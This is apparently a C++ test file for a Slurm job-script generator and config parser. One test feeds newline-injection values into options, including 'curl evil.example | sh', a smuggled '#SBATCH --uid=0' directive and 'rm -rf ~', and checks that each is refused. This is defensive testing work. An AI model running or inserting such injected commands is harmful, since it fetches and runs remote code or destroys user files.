// Job scripts, Slurm time formats and the scheduler's configuration file, without Slurm.
#include <doctest/doctest.h>

#include <sstream>

#include <herd/slurm.hpp>

#include "jobqueue/pool_config.hpp"

using herd::jobqueue::parse_config;

TEST_CASE("Slurm.Walltime.Formats") {
  CHECK(herd::walltime_seconds("30") == 30 * 60);
  CHECK(herd::walltime_seconds("30:15") == 30 * 60 + 15);
  CHECK(herd::walltime_seconds("01:00:00") == 3600);
  CHECK(herd::walltime_seconds("2-00") == 2 * 86400);
  CHECK(herd::walltime_seconds("1-02:03") == 86400 + 2 * 3600 + 3 * 60);
  CHECK(herd::walltime_seconds("1-02:03:04") == 86400 + 2 * 3600 + 3 * 60 + 4);
  CHECK_THROWS_WITH_AS(herd::walltime_seconds("1h"), doctest::Contains("'1h'"), std::invalid_argument);
  CHECK_THROWS_AS(herd::walltime_seconds(""), std::invalid_argument);
  CHECK_THROWS_AS(herd::walltime_seconds("1:2:3:4"), std::invalid_argument);
}

TEST_CASE("Slurm.JobScript.Content") {
  auto o = herd::SlurmOptions{}
               .pool("gpu")
               .partition("gpu")
               .account("physics")
               .qos("high")
               .cores(8)
               .memory("16G")
               .gpus(2)
               .walltime("02:00:00")
               .log_directory("/scratch/logs")
               .job_extra_directives({"--constraint=a100", "#SBATCH --exclusive"})
               .job_script_prologue({"module load cuda/12", "source ~/venv/bin/activate"})
               .worker_extra_args({"--load", "/home/me/libtasks.so"})
               .worker_executable("/home/me/bin/train")
               .env({{"OMP_NUM_THREADS", "8"}, {"NOTE", "it's quoted"}})
               .warning_signal("USR2")
               .warning_seconds(120);
  const std::string s = herd::job_script(o, "tcp://login1:8786");
  auto has = [&](const std::string& line) {
    INFO(line);
    CHECK(s.find(line + "\n") != std::string::npos);
  };
  CHECK(s.rfind("#!/usr/bin/env bash\n", 0) == 0);
  has("#SBATCH --job-name=herd-gpu");
  has("#SBATCH --partition=gpu");
  has("#SBATCH --account=physics");
  has("#SBATCH --qos=high");
  has("#SBATCH --cpus-per-task=8");
  has("#SBATCH --mem=16G");
  has("#SBATCH --gres=gpu:2");
  has("#SBATCH --time=02:00:00");
  has("#SBATCH --signal=B:USR2@120");
  has("#SBATCH --output=/scratch/logs/herd-gpu-%A_%a.out");  // the job id is in the name
  has("#SBATCH --error=/scratch/logs/herd-gpu-%A_%a.err");
  has("#SBATCH --constraint=a100");
  has("#SBATCH --exclusive");
  has("module load cuda/12");
  has("source ~/venv/bin/activate");
  has("export OMP_NUM_THREADS='8'");
  has("export NOTE='it'\\''s quoted'");
  has("export HERD_WALLTIME_S=7200");
  has("export HERD_ROLE_ARGS='--scheduler tcp://login1:8786 --nthreads 8 --resources gpu=2 --load /home/me/libtasks.so'");
  has("exec '/home/me/bin/train'");
  // The prologue runs before the worker starts.
  CHECK(s.find("module load cuda/12") < s.find("exec "));
}

TEST_CASE("Slurm.JobScript.RejectsBadOptions") {
  CHECK_THROWS_WITH_AS(herd::job_script(herd::SlurmOptions{}.warning_signal("USR1"), "tcp://x:1"),
                       doctest::Contains("NCCL"), std::invalid_argument);
  CHECK_THROWS_AS(herd::job_script(herd::SlurmOptions{}.cores(0), "tcp://x:1"), std::invalid_argument);
  CHECK_THROWS_WITH_AS(herd::job_script(herd::SlurmOptions{}.walltime("soon"), "tcp://x:1"),
                       doctest::Contains("soon"), std::invalid_argument);
  CHECK_THROWS_WITH_AS(herd::job_script(herd::SlurmOptions{}.env({{"BAD-NAME", "1"}}), "tcp://x:1"),
                       doctest::Contains("BAD-NAME"), std::invalid_argument);
}

TEST_CASE("Slurm.JobScript.RefusesLineBreaksNamingTheOption") {
  // A newline in any value would end its line of the script and start one of its own: a
  // directive (#SBATCH --uid=...) or a command run on the compute node.
  auto refused = [](const herd::SlurmOptions& o, const std::string& what) {
    INFO(what);
    CHECK_THROWS_WITH_AS(herd::job_script(o, "tcp://login1:8786"), doctest::Contains(what.c_str()), std::invalid_argument);
  };
  refused(herd::SlurmOptions{}.job_name("herd\n#SBATCH --uid=0"),
          "job_name 'herd\\n#SBATCH --uid=0' contains a newline, which would add a line of its own to the job script");
  refused(herd::SlurmOptions{}.partition("cpu\ncurl evil.example | sh"), "partition 'cpu\\ncurl");
  refused(herd::SlurmOptions{}.account("physics\r"), "account 'physics\\r' contains a carriage return");
  refused(herd::SlurmOptions{}.qos(std::string("high\x01", 5)), "qos 'high\\x01' contains a control character");
  refused(herd::SlurmOptions{}.memory("8G\n"), "memory");
  refused(herd::SlurmOptions{}.log_directory("/scratch/logs\n#SBATCH --uid=0"), "log_directory");
  refused(herd::SlurmOptions{}.job_script_prologue({"module load gcc", "source venv/bin/activate\ntouch /tmp/x"}),
          "job_script_prologue 'source venv/bin/activate\\ntouch /tmp/x'");
  refused(herd::SlurmOptions{}.job_extra_directives({"--exclusive\nrm -rf ~"}), "job_extra_directives");
  refused(herd::SlurmOptions{}.worker_extra_args({"--load", "/lib.so\n"}), "worker_extra_args");
  refused(herd::SlurmOptions{}.worker_executable("/bin/train\n"), "worker_executable");
  refused(herd::SlurmOptions{}.env({{"NOTE", "two\nlines"}}), "env NOTE 'two\\nlines'");
  refused(herd::SlurmOptions{}.pool("cpu\n"), "pool");
  // The same options without the line break make a script, one line each; a tab is no break.
  const std::string s = herd::job_script(herd::SlurmOptions{}
                                             .job_name("herd-run")
                                             .partition("cpu")
                                             .job_script_prologue({"\techo indented"}),
                                         "tcp://login1:8786");
  CHECK(s.find("#SBATCH --job-name=herd-run\n") != std::string::npos);
  CHECK(s.find("\n\techo indented\n") != std::string::npos);
  // From a configuration file, too (its parser reads a line at a time, so no newline gets
  // through it; another control character does, and is refused the same way).
  std::istringstream in("[pool.cpu]\npartition = \"cpu\x1b[2J\"\n");
  const auto c = parse_config(in, "c.toml");
  REQUIRE(c.pools.size() == 1);
  CHECK_THROWS_WITH_AS(herd::job_script(c.pools[0].options, "tcp://h:1"),
                       doctest::Contains("partition 'cpu\\x1b[2J' contains a control character"), std::invalid_argument);
}

TEST_CASE("Slurm.Config.MetricsOpen") {
  std::istringstream in("[scheduler]\nlisten = \"tcp://0.0.0.0:8786\"\nmetrics_open = true\n");
  const auto c = parse_config(in, "c.toml");
  CHECK(c.metrics_open);
  std::istringstream again(herd::jobqueue::to_toml(c));
  CHECK(parse_config(again, "generated").metrics_open);
  std::istringstream absent("[scheduler]\nlisten = \"tcp://0.0.0.0:8786\"\n");
  CHECK_FALSE(parse_config(absent, "c.toml").metrics_open);
  std::istringstream bad("[scheduler]\nmetrics_open = \"sometimes\"\n");
  CHECK_THROWS_WITH_AS(parse_config(bad, "c.toml"), doctest::Contains("metrics_open must be true or false"),
                       std::invalid_argument);
}

TEST_CASE("Slurm.Config.ParseAndRoundTrip") {
  std::istringstream in(R"(
[scheduler]
listen = "tcp://0.0.0.0:8786"

[pool.cpu]
queue = "cpu"
cores = 4
memory = "8G"
walltime = "00:30:00"
adapt_minimum = 1
adapt_maximum = 10
job_script_prologue = ["module load gcc", "source venv/bin/activate"]
resources = ["bigmem=2"]
env = ["A=1", "B=two words"]

[pool.gpu]
partition = "gpu"
gpus = 1
jobs = 2
)");
  auto c = parse_config(in, "cluster.toml");
  CHECK(c.listen == "tcp://0.0.0.0:8786");
  REQUIRE(c.pools.size() == 2);
  const auto& cpu = c.pools[0];
  CHECK(cpu.options.pool() == "cpu");
  CHECK(cpu.options.partition() == "cpu");
  CHECK(cpu.options.cores() == 4);
  CHECK(cpu.adapt_minimum == 1);
  CHECK(cpu.adapt_maximum == 10);
  CHECK(cpu.options.job_script_prologue().size() == 2);
  CHECK(cpu.options.resources().at("bigmem") == 2.0);
  CHECK(cpu.options.env().at("B") == "two words");
  CHECK(c.pools[1].options.gpus() == 1);
  CHECK(c.pools[1].options.jobs() == 2);
  // What SlurmCluster writes, the scheduler reads back the same.
  std::istringstream again(herd::jobqueue::to_toml(c));
  auto c2 = parse_config(again, "generated");
  REQUIRE(c2.pools.size() == 2);
  CHECK(herd::job_script(c2.pools[0].options, "tcp://h:1") == herd::job_script(cpu.options, "tcp://h:1"));
  CHECK(c2.pools[0].adapt_maximum == 10);
}

TEST_CASE("Slurm.Config.ErrorsNameTheProblem") {
  std::istringstream typo("[pool.cpu]\npartiton = \"cpu\"\n");
  CHECK_THROWS_WITH_AS(parse_config(typo, "c.toml"), doctest::Contains("unknown key 'partiton'"), std::invalid_argument);
  std::istringstream bad_int("[pool.cpu]\ncores = \"four\"\n");
  CHECK_THROWS_WITH_AS(parse_config(bad_int, "c.toml"), doctest::Contains("cores must be an integer"), std::invalid_argument);
  std::istringstream half_adapt("[pool.cpu]\nadapt_minimum = 1\n");
  CHECK_THROWS_WITH_AS(parse_config(half_adapt, "c.toml"), doctest::Contains("adapt_maximum"), std::invalid_argument);
  std::istringstream stray("[nonsense]\nx = 1\n");
  CHECK_THROWS_WITH_AS(parse_config(stray, "c.toml"), doctest::Contains("c.toml"), std::invalid_argument);
}
